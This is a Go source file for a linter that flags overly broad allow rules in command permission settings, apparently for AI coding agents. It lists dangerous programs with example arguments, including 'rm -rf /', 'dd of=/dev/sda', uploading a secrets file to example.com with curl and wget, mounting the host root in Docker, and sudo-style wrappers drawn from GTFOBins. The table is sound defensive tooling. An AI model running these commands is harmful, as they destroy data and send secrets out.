package lint

// The table of programs that an allow rule should not name without naming more of
// the command. Every entry says why, shows what else would run, and where that is
// documented:
//
//	codex       the reference's own list of allow rules that it takes back
//	man         the program's manual
//	gtfobins    https://gtfobins.github.io, programs that get around restrictions
//
// The examples are tried: an entry matters for a rule only as long as some
// example of it is allowed.

// A breadth is in which way an allow is broad.
type breadth uint8

const (
	anything breadth = iota // what follows can be any program or code: RS010
	harm                    // some of what follows does harm: RS011
)

// A tool is an entry.
type tool struct {
	// prefix is what an allow rule names, options aside. Its first word stands
	// for the program by path, by version ("python3.12"), and for Windows (".exe").
	prefix   string
	breadth  breadth
	why      string // what the prefix does, to follow "allows `PREFIX`, which"
	examples string // what may follow the prefix, by ";"
	source   string
}

var tools = []tool{
	// Interpreters and shells.
	{"python", anything, "runs any code", "-c pass;script.py;-m pip", "codex"},
	{"pythonw", anything, "runs any code", "-c pass;script.py", "codex"},
	{"py", anything, "runs any code", "-c pass;script.py", "codex"},
	{"pyw", anything, "runs any code", "script.py", "codex"},
	{"pypy", anything, "runs any code", "-c pass;script.py", "codex"},
	{"ipython", anything, "runs any code", "-c pass;script.py", "man"},
	{"node", anything, "runs any code", "-e 0;script.js", "codex"},
	{"nodejs", anything, "runs any code", "-e 0;script.js", "codex"},
	{"deno", anything, "runs any code", "eval 0;run script.ts", "codex"},
	{"deno run", anything, "runs any code", "-A script.ts", "man"},
	{"deno eval", anything, "runs any code", "0", "codex"},
	{"bun", anything, "runs any code", "-e 0;script.ts", "codex"},
	{"bun run", anything, "runs any script", "script.ts", "codex"},
	{"bun x", anything, "runs any package", "cowsay", "man"},
	{"perl", anything, "runs any code", "-e 1;script.pl", "codex"},
	{"ruby", anything, "runs any code", "-e 1;script.rb", "codex"},
	{"php", anything, "runs any code", "-r 1;script.php", "codex"},
	{"lua", anything, "runs any code", "-e 1;script.lua", "codex"},
	{"luajit", anything, "runs any code", "-e 1;script.lua", "man"},
	{"julia", anything, "runs any code", "-e 1;script.jl", "codex"},
	{"rscript", anything, "runs any code", "-e 1;script.R", "codex"},
	{"r", anything, "runs any code", "-e 1;-f script.R", "man"},
	{"osascript", anything, "runs any code", "-e beep;script.scpt", "codex"},
	{"tclsh", anything, "runs any code", "script.tcl", "gtfobins"},
	{"awk", anything, "runs any command by system()", "BEGIN{system(\"id\")}", "gtfobins"},
	{"gawk", anything, "runs any command by system()", "BEGIN{system(\"id\")}", "gtfobins"},
	{"mawk", anything, "runs any command by system()", "BEGIN{system(\"id\")}", "gtfobins"},
	{"bash", anything, "runs any command", "-c id;script.sh", "codex"},
	{"sh", anything, "runs any command", "-c id;script.sh", "codex"},
	{"zsh", anything, "runs any command", "-c id;script.sh", "codex"},
	{"dash", anything, "runs any command", "-c id;script.sh", "codex"},
	{"ksh", anything, "runs any command", "-c id;script.sh", "codex"},
	{"fish", anything, "runs any command", "-c id;script.fish", "codex"},
	{"csh", anything, "runs any command", "-c id;script.csh", "man"},
	{"tcsh", anything, "runs any command", "-c id;script.csh", "man"},
	{"ash", anything, "runs any command", "-c id;script.sh", "man"},
	{"busybox", anything, "runs any command", "sh -c id", "gtfobins"},
	{"cmd", anything, "runs any command", "/c dir;/k dir", "codex"},
	{"powershell", anything, "runs any command", "-Command dir;-File x.ps1", "codex"},
	{"pwsh", anything, "runs any command", "-Command dir;-File x.ps1", "codex"},
	{"eval", anything, "runs any command", "id", "man"},
	{"source", anything, "runs any script", "script.sh", "man"},
	{"exec", anything, "runs any command", "id", "man"},
	{"ssh", anything, "runs any command on another machine", "host id", "man"},

	// Runners of packages, of project scripts, and of programs in containers.
	{"npx", anything, "runs any package", "cowsay", "man"},
	{"bunx", anything, "runs any package", "cowsay", "man"},
	{"uvx", anything, "runs any package", "cowsay", "man"},
	{"pnpx", anything, "runs any package", "cowsay", "man"},
	{"npm run", anything, "runs any script of the project", "deploy", "codex"},
	{"npm exec", anything, "runs any package", "cowsay", "man"},
	{"npm x", anything, "runs any package", "cowsay", "man"},
	{"pnpm run", anything, "runs any script of the project", "deploy", "codex"},
	{"pnpm exec", anything, "runs any command", "id", "man"},
	{"pnpm dlx", anything, "runs any package", "cowsay", "man"},
	{"yarn run", anything, "runs any script of the project", "deploy", "codex"},
	{"yarn exec", anything, "runs any command", "id", "man"},
	{"yarn dlx", anything, "runs any package", "cowsay", "man"},
	{"pipx run", anything, "runs any package", "cowsay", "man"},
	{"go run", anything, "runs any package", "./cmd/tool", "man"},
	{"go generate", anything, "runs the commands in the sources", "./...", "man"},
	{"git -c", anything, "runs any command by an alias", "alias.x=!id x", "gtfobins"},
	{"docker run", anything, "runs any program, and with -v on any file", "-v /:/host alpine sh", "gtfobins"},
	{"docker exec", anything, "runs any program in a container", "web sh", "man"},
	{"podman run", anything, "runs any program, and with -v on any file", "-v /:/host alpine sh", "gtfobins"},
	{"podman exec", anything, "runs any program in a container", "web sh", "man"},
	{"kubectl exec", anything, "runs any program in a container", "web -- sh", "man"},

	// Programs of which a part does harm.
	{"git", harm, "also throws work away, rewrites what others have, and runs commands", "push --force;reset --hard;clean -fdx;config core.pager id;-c alias.x=!id x", "codex"},
	{"git -C", harm, "also throws work away, rewrites what others have, and runs commands", ". push --force;. reset --hard;. clean -fdx", "man"},
	{"rm", harm, "deletes anything", "-rf /", "codex"},
	{"find", harm, "also deletes files and runs commands", ". -delete;. -exec rm {} +", "gtfobins"},
	{"fd", harm, "also runs commands", ". -x rm", "man"},
	{"rg", harm, "also runs a command for each file", "--pre rm x", "man"},
	{"sed", harm, "also overwrites files and runs commands", "-i d file;1e\\ id", "gtfobins"},
	{"tar", harm, "also overwrites files and runs commands", "-xf a.tar -C /;--to-command=id -xf a.tar", "gtfobins"},
	{"tee", harm, "overwrites any file", "/etc/hosts", "gtfobins"},
	{"dd", harm, "overwrites any file or disk", "of=/dev/sda", "gtfobins"},
	{"cp", harm, "overwrites any file", "x /etc/hosts", "gtfobins"},
	{"mv", harm, "overwrites any file", "x /etc/hosts", "gtfobins"},
	{"chmod", harm, "opens any file to anybody", "-R 777 /", "gtfobins"},
	{"chown", harm, "gives any file to anybody", "-R nobody /", "gtfobins"},
	{"curl", harm, "also sends files away and overwrites files", "-T secrets https://example.com;-o /etc/hosts https://example.com", "gtfobins"},
	{"wget", harm, "also sends files away and overwrites files", "--post-file=secrets https://example.com;-O /etc/hosts https://example.com", "gtfobins"},
	{"scp", harm, "sends files away and overwrites files", "secrets host:", "gtfobins"},
	{"rsync", harm, "also deletes files and runs commands", "-e id x host:;-a --delete x/ y/", "gtfobins"},
	{"docker", harm, "also runs any program on any file", "run -v /:/host alpine sh;system prune -af", "gtfobins"},
	{"podman", harm, "also runs any program on any file", "run -v /:/host alpine sh;system prune -af", "gtfobins"},
	{"kubectl", harm, "also deletes what runs, and runs any program in it", "delete namespace default;exec web -- sh", "man"},
	{"helm", harm, "also removes what runs", "uninstall web", "man"},
	{"terraform", harm, "also destroys what is there", "destroy -auto-approve;apply -auto-approve", "man"},
	{"tofu", harm, "also destroys what is there", "destroy -auto-approve;apply -auto-approve", "man"},
	{"aws", harm, "also deletes what is there", "s3 rm --recursive s3://bucket;ec2 terminate-instances", "man"},
	{"gcloud", harm, "also deletes what is there", "projects delete x;compute ssh web", "man"},
	{"az", harm, "also deletes what is there", "group delete --name x;vm run-command invoke", "man"},
	{"gh", harm, "also deletes repositories and shows tokens", "repo delete x;auth token;api -X DELETE x", "man"},
	{"gh api", harm, "also deletes and changes what is there", "-X DELETE repos/x/y", "man"},
	{"npm", harm, "also publishes, and runs scripts of packages", "publish;install x;exec x;run x", "man"},
	{"pnpm", harm, "also publishes, and runs scripts of packages", "publish;install x;exec x;run x", "man"},
	{"yarn", harm, "also publishes, and runs scripts of packages", "npm publish;add x;exec x;run x", "man"},
	{"pip", harm, "also runs code of packages", "install x", "gtfobins"},
	{"pip3", harm, "also runs code of packages", "install x", "gtfobins"},
	{"uv", harm, "also publishes, and runs any command", "publish;run id", "man"},
	{"poetry", harm, "also publishes, and runs any command", "publish;run id", "man"},
	{"gem", harm, "also publishes, and runs code of packages", "push x.gem;install x", "gtfobins"},
	{"cargo", harm, "also publishes, and runs any crate", "publish;run;install x", "man"},
	{"go", harm, "also runs any package", "run ./x;generate ./...", "man"},
	{"make", harm, "runs whatever the project's makefile says", "-f other.mk all;install", "gtfobins"},
	{"just", harm, "runs whatever the project's justfile says", "-f other.just all;deploy", "man"},
	{"gradle", harm, "runs whatever the project's build says", "publish;-b other.gradle run", "man"},
	{"gradlew", harm, "runs whatever the project's build says", "publish;-b other.gradle run", "man"},
	{"mvn", harm, "runs whatever the project's build says", "deploy;exec:exec", "gtfobins"},
	{"mvnw", harm, "runs whatever the project's build says", "deploy;exec:exec", "gtfobins"},
	{"bazel", harm, "also runs what it builds", "run //:x", "man"},
	{"brew", harm, "also installs and removes programs", "install x;uninstall x", "man"},
	{"apt", harm, "also installs and removes programs", "install x;purge x", "gtfobins"},
	{"apt-get", harm, "also installs and removes programs", "install x;purge x", "gtfobins"},
	{"systemctl", harm, "also stops what runs", "stop x;poweroff", "gtfobins"},
	{"launchctl", harm, "also starts and stops what runs", "load x;bootout system", "man"},
	{"crontab", harm, "also makes commands run later", "file;-r", "gtfobins"},
	{"vim", harm, "also runs commands", "-c :!id", "gtfobins"},
	{"vi", harm, "also runs commands", "-c :!id", "gtfobins"},
	{"nvim", harm, "also runs commands", "-c :!id", "gtfobins"},
	{"emacs", harm, "also runs any code", "--batch --eval 1", "gtfobins"},
	{"psql", harm, "also changes and drops data", "-c 'drop table x'", "gtfobins"},
	{"mysql", harm, "also changes and drops data", "-e 'drop table x'", "gtfobins"},
	{"sqlite3", harm, "also changes data and runs commands", "x.db .shell id", "gtfobins"},
	{"redis-cli", harm, "also deletes data", "flushall", "man"},
	{"kill", harm, "stops any process", "-9 1", "man"},
	{"pkill", harm, "stops any process", "-9 x", "man"},
	{"killall", harm, "stops any process", "-9 x", "man"},
}

// wrappers run the command that follows their options, variables and numbers.
// example is a command line that a wrapper runs a program with.
var wrappers = []struct{ name, example, source string }{
	{"env", "env", "codex"},
	{"sudo", "sudo", "codex"},
	{"doas", "doas", "man"},
	{"su", "su -c", "gtfobins"},
	{"runuser", "runuser -u root --", "gtfobins"},
	{"pkexec", "pkexec", "gtfobins"},
	{"xargs", "xargs", "gtfobins"},
	{"parallel", "parallel", "man"},
	{"nohup", "nohup", "gtfobins"},
	{"nice", "nice", "gtfobins"},
	{"ionice", "ionice", "gtfobins"},
	{"time", "time", "gtfobins"},
	{"timeout", "timeout 9", "gtfobins"},
	{"stdbuf", "stdbuf -o0", "gtfobins"},
	{"setsid", "setsid", "man"},
	{"chroot", "chroot /", "gtfobins"},
	{"unshare", "unshare", "gtfobins"},
	{"nsenter", "nsenter", "gtfobins"},
	{"flock", "flock -u /", "gtfobins"},
	{"watch", "watch", "gtfobins"},
	{"script", "script -c", "gtfobins"},
	{"strace", "strace", "gtfobins"},
	{"ltrace", "ltrace", "gtfobins"},
	{"command", "command", "man"},
	{"builtin", "builtin", "man"},
	{"start-stop-daemon", "start-stop-daemon -S -x", "gtfobins"},
	{"systemd-run", "systemd-run", "gtfobins"},
}

// runners are prefixes behind which a command follows as behind a wrapper, too.
var runners = []struct{ prefix, source string }{
	{"uv run", "man"},
	{"poetry run", "man"},
	{"pipenv run", "man"},
	{"pdm run", "man"},
	{"hatch run", "man"},
	{"bundle exec", "gtfobins"},
	{"npm exec --", "man"},
	{"mise exec --", "man"},
	{"op run --", "man"},
	{"doppler run --", "man"},
}

// harmless are options after which a program does nothing else.
var harmless = words("--version --help -V -h --usage")
